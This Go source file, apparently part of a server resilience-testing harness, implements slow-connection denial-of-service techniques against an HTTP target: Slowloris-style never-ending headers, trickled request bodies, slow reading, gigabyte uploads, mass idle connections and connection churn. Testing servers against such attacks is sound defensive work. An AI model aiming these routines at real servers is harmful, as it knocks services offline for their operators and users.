//go:build linux

package flood

import (
	"fmt"
	"net"
	"time"
)

// begin makes a connection and writes the beginning of what is to be said on it.
func (a *attacker) begin(p []byte) func() (net.Conn, bool) {
	return func() (net.Conn, bool) {
		c, ok := a.dial()
		if !ok {
			return nil, false
		}
		if _, err := c.Write(p); err != nil {
			a.cut.Add(1)
			abort(c)
			return nil, false
		}
		return c, true
	}
}

// slowHeads sends heads that never end, a field at a time.
func slowHeads(a *attacker) {
	a.dribble(a.held(5000), 2*time.Second, a.begin([]byte("GET / HTTP/1.1\r\nHost: app\r\n")), func(i int) []byte {
		return fmt.Appendf(nil, "x-%d: y\r\n", i)
	})
}

// slowBodies sends bodies that never end, an octet at a time.
func slowBodies(a *attacker) {
	a.dribble(a.held(800), time.Second, a.begin([]byte("POST / HTTP/1.1\r\nHost: app\r\nContent-Length: 1000000\r\n\r\nx")), func(int) []byte {
		return []byte("x")
	})
}

// slowReaders ask for large answers and read a little of them.
func slowReaders(a *attacker) {
	piece := make([]byte, 512)
	begin := a.begin([]byte("GET /big HTTP/1.1\r\nHost: app\r\n\r\n"))
	slots := make(chan struct{}, a.held(800))
	for {
		a.pace()
		slots <- struct{}{}
		go func() {
			defer func() { <-slots }()
			c, ok := begin()
			if !ok {
				return
			}
			if t, ok := c.(*net.TCPConn); ok {
				_ = t.SetReadBuffer(4096)
			}
			for {
				time.Sleep(time.Second)
				a.pace()
				if _, err := c.Read(piece); err != nil {
					a.cut.Add(1)
					abort(c)
					return
				}
			}
		}()
	}
}

// greedyUpload sends bodies of 1 GiB as fast as they are taken.
func greedyUpload(a *attacker) {
	piece := make([]byte, 64<<10)
	for {
		c, ok := a.begin([]byte("POST / HTTP/1.1\r\nHost: app\r\nContent-Length: 1073741824\r\n\r\n"))()
		if !ok {
			continue
		}
		for sent := 0; sent < 1<<30; sent += len(piece) {
			a.pace()
			if _, err := c.Write(piece); err != nil {
				a.cut.Add(1)
				break
			}
		}
		abort(c)
	}
}

// idle makes connections and says nothing on them.
func idle(a *attacker) {
	a.dribble(a.held(10_000), time.Minute, a.connect, func(int) []byte { return nil })
}

// idleAfterRequest makes connections, asks once on each and says nothing more, as clients with a
// pool do.
func idleAfterRequest(a *attacker) {
	answer := make([]byte, 1024)
	a.dribble(a.held(10_000), time.Minute, func() (net.Conn, bool) {
		c, ok := a.begin(honestRequest)()
		if ok {
			_, _ = c.Read(answer)
		}
		return c, ok
	}, func(int) []byte { return nil })
}

// idleLinks makes links, asks once on each and says nothing more.
func idleLinks(a *attacker) {
	p := a.open([]byte(opening), 1, endStream, "/")
	answer := make([]byte, 1024)
	a.dribble(a.held(1000), time.Minute, func() (net.Conn, bool) {
		c, ok := a.begin(p)()
		if ok {
			_, _ = c.Read(answer)
		}
		return c, ok
	}, func(int) []byte { return nil })
}

// churn makes connections and closes them.
func churn(a *attacker) {
	a.hands(hands, func() {
		if c, ok := a.connect(); ok {
			abort(c)
		}
	})
}
